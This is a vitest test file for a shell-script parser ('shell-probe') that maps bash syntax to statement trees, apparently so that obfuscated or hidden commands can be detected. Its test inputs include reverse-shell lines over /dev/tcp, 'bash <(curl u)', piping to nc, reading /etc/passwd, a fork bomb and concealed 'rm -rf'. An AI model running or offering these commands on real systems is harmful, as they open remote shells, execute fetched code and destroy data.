import { describe, expect, test } from "vitest";
import { shellProbeMaker } from "./shell-probe.ts";

const newProbe = await shellProbeMaker();
const probe = newProbe();

/** A script of one line, or several, and its statements. */
type Sample = readonly [string, ...string[]];

const samples: readonly (readonly [string, readonly Sample[]])[] = [
  [
    "commands",
    [
      ["ls -l /tmp # all", 'ls("-l", "/tmp")'],
      ["/usr/bin/curl x", 'curl("x")'],
      ["/sbin/reboot; /usr/local/bin/a", "reboot()", "a()"],
      ["/opt/x/run; ./f; ~/g", '"/opt/x/run"()', '"./f"()', '"~/g"()'],
      ["c'u'r\\l -s", '<"c" + "u" + "r" + "l">("-s")'],
      ["\\curl x", 'curl("x")'],
      ["a && b || c; d & e", "a()", "b()", "c()", "d()", "e()"],
      ["a && x=1", "a()", '{$x = "1"}'],
      ["A=1 b", '{$A = "1"}', "b()"],
      ["$a$b -c", '<<$a + $b>>("-c")'],
      ["{cat,/etc/passwd}", 'Tuple("cat", "/etc/passwd")()'],
      ["! time a\ncoproc b", "a()", "b()"],
      ["cu\\\nrl \\\n  x", '<"cu" + "rl">("x")'],
      ["a\r\nb\r\n", "a()", "b()"],
      ["x.y_z-1 +x", 'x.y_z-1("+x")'],
    ],
  ],
  [
    "words",
    [
      ['a \'b c\' "d $e" f"g"h', 'a("b c", <"d " + $e>, <"f" + "g" + "h">)'],
      ["a '' \"\" x''", 'a("", "", "x")'],
      ["a $'\\x41' $\"b\"", `a($'\\x41', "b")`],
      ['a "\\$x \\` \\" \\\\ \\n"', String.raw`a(<"$x " + "${"`"} " + "\" " + "\\ \\n">)`],
      [
        "a {b,c}d e{f,g} {h,} {i} {1..3}",
        'a(<"b" + "d">, <"c" + "d">, <"e" + "f">, <"e" + "g">, "h", "", "{i}", "{1..3}")',
      ],
      ["a *.c [x]? ~/y !x", 'a("*.c", "[x]?", "~/y", "!x")'],
      ["a @(b|c)d !(e)", 'a("@(b|c)d", "!(e)")'],
      ["a x#y #z", 'a("x#y")'],
      ["a b\0c", 'a(<"b" + "c">)'],
    ],
  ],
  [
    "expansions",
    [
      ['a $x "$x" ${x} $1 $@ $?', "a(<<$x>>, <$x>, <<$x>>, <<$1>>, <<$@>>, <<$?>>)"],
      ["a $ $: x$", 'a("$", "$:", "x$")'],
      [
        'a "${x:-y z}" ${x:=1} ${x:+"$y"}',
        'a(<Bool($x, "y z")>, <<Bool($x, Walrus($x, "1"))>>, <<IfExp($x, <$y>, "")>>)',
      ],
      ["a ${#x} ${!x} ${x^^}", 'a(<<:length($x)>>, <<:indirect($x)>>, <<:upper($x, "")>>)'],
      ["a ${x#*/} ${x%%.c}", 'a(<<:cut-start($x, "*/")>>, <<:cut-end-longest($x, ".c")>>)'],
      [
        "a ${x/b/c} ${x//b} ${x/#b/c}",
        'a(<<:replace($x, "b", "c")>>, <<:replace-all($x, "b", "")>>, <<:replace-start($x, "b", "c")>>)',
      ],
      ["a ${x:1} ${x:1:2}", "a(<<Subscript($x, Slice(1))>>, <<Subscript($x, Slice(1, Bin(1, 2)))>>)"],
      ["a ${x: -3} ${x:0:-1}", "a(<<Subscript($x, Slice(Unary(3)))>>, <<Subscript($x, Slice(0, Unary(1)))>>)"],
      ["a ${x[1]} ${x[@]}", "a(<<Subscript($x, 1)>>, <<$x>>)"],
      ["a $((1+2*x)) $[3]", "a(<<Bin(1, Bin(2, Unary($x)))>>, <<3>>)"],
      ["a $((x=2#101, x<<1))", "a(<<Compare(Walrus($x, 2#101), Bin(Unary($x), 1))>>)"],
      ["a $(b c) `b c`", 'a(<<b("c")>>, <<b("c")>>)'],
      ["a `b \\`c\\``", "a(<<b(<<c()>>)>>)"],
      ["a $(b; c)", "a(<<{b(); c()}>>)"],
      ["a $((b) | c)", "a(<<c(stdin={b()})>>)"],
      ["a $(<f)", 'a(<<<("f")>>)'],
      ['a "$(b "$c")"', "a(<b(<$c>)>)"],
    ],
  ],
  [
    "streams",
    [
      ["a | b |& c", "c(stdin=b(stdin=a()))"],
      ["a > f", '>("f", stdin=a())'],
      ["a >> f < g", '>>("f", stdin=a(stdin=<("g")))'],
      ["a 2> e 2>&1 2>/dev/null", '2>("e")', "a()"],
      ["a &> f; b >& g", '>("f", stdin=a())', '>("g", stdin=b())'],
      ["> f", '>("f")'],
      ["bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", '>("/dev/tcp/203.0.113.7/4444", stdin=bash("-i"))'],
      ["exec 5<>/dev/tcp/h/1; sh <&5 >&5", '$&5 = <>("/dev/tcp/h/1")', "exec()", ">($&5, stdin=sh(stdin=$&5))"],
      ['a <<< "$x"', "a(stdin=<$x>)"],
      ["a <<E\nb $c\nE\nd", 'a(stdin=<"b " + $c + "\\n">)', "d()"],
      ["a <<'E' | b\n$c\nE\nd", 'b(stdin=a(stdin=<"$c\\n">))', "d()"],
      ["a <<-E\n\tb\n\tE\n", 'a(stdin=<"\\tb\\n">)'],
      ["a <<E <<F\n1\nE\n2\nF\n", 'a(stdin=<"2\\n">)'],
      ["bash <(curl u)", 'bash(:process(stdin=curl("u")))'],
      ["a > >(nc h 1)", '>(:feed(nc("h", "1")), stdin=a())'],
      ["{ a; b; } > f", '>("f", stdin={a(); b()})'],
      ["a | { read x; }", 'With({read("x")}, Alias(a(), $&0))'],
    ],
  ],
  [
    "assignments",
    [
      ["x=1 y= z='a b'$c", '$x = "1"', '$y = ""', '$z = <<"a b" + $c>>'],
      ["x+=b", 'AugAssign($x, "b")'],
      ["x=(a $b\n c) x[1]=d", '$x = List("a", <<$b>>, "c")', 'Subscript($x, 1) = "d"'],
      ["export A=b C", '$A = "b"', 'export("A", "C")'],
      ["local -r x=$1", "$x = <<$1>>", 'local("-r", "x")'],
      ["a x=1", 'a("x=1")'],
    ],
  ],
  [
    "compound commands",
    [
      ["if a; then b; elif c; then d; else e; fi", "If({a()}, {b()}, {c()}, {d()}, {e()})"],
      ["while a; do b; done < f", 'With({While({a()}, {b()})}, Alias(<("f"), $&0))'],
      ["for x in a $b; do c; done", 'For($x, List("a", <<$b>>), {c()})'],
      ["for x\ndo c\ndone", "For($x, $@, {c()})"],
      [
        "for ((i=0;i<3;i++)) { c; }",
        "{Walrus($i, 0); While(Compare(Unary($i), 3), {c(); Unary(Walrus($i, Const()))})}",
      ],
      ["case $x in a|b) c;; (*) d\nesac", 'Match(<<$x>>, Case(Tuple("a", "b"), {c()}), Case(Tuple("*"), {d()}))'],
      ["case x in done) b;; esac", 'Match("x", Case(Tuple("done"), {b()}))'],
      ["f() { a; }; function g { b; }", "f() {{a()}}", "g() {{b()}}"],
      [":(){ :|:& };:", ":() {{:(stdin=:())}}", ":()"],
      ["(a; b) | c", "c(stdin={a(); b()})"],
      ["((a)); ((x++)) || y", "Unary($a)", "Unary(Walrus($x, Const()))", "y()"],
      ["[[ $x =~ ^(a|b)$ && -n y ]]", ':test(<<$x>>, "=~", "^", "a", "b", "$", "-n", "y")'],
      ["select x in a; do b; done", 'For($x, List("a"), {b()})'],
    ],
  ],
];

// not `each`: it would read the dollars of the scripts as names of its own
for (const [name, scripts] of samples) {
  describe(name, () => {
    for (const [source, ...statements] of scripts) {
      test(JSON.stringify(source), () => {
        expect(probe.tree(source)).toEqual(statements);
        expect(probe.parse(source)).toMatchObject({ errors: 0, cutoffs: 0, skippedFrom: 0 });
      });
    }
  });
}

const faults: readonly (readonly [string, number])[] = [
  ["( a", 1],
  ["a )", 1],
  ["if a; then b", 1],
  ["fi", 1],
  ["a\n'b", 2],
  ['a\n"b', 2],
  ["a <<E\nb\n", 2],
  ["a | | b", 1],
  ["a $(b", 1],
  ["a ${x", 1],
  ["a `b", 1],
  ["case x in a) b", 1],
  ["x=(a", 1],
];

for (const [source, errorLine] of faults) {
  test(`${JSON.stringify(source)} is a fault`, () => {
    const facts = probe.parse(source);
    expect(facts.errors).toBeGreaterThan(0);
    expect(facts.errorLine).toBe(errorLine);
  });
}

describe("commands behind what is broken are still seen", () => {
  const scripts = [
    "echo 'x\nrm -rf y",
    'echo "x\nrm -rf y',
    "fi; done\nrm -rf y",
    "a ) ; rm -rf y",
    "if a; b; rm -rf y",
    "x=(a; b\n)\nrm -rf y",
    "case x\nrm -rf y",
    `${"$(".repeat(100)} rm -rf y`,
    `${"if ".repeat(100)} rm -rf y`,
  ];
  for (const source of scripts) {
    test(JSON.stringify(source).slice(0, 60), () => {
      expect(probe.tree(source).join("\n")).toContain('rm("-rf", "y"');
    });
  }
});
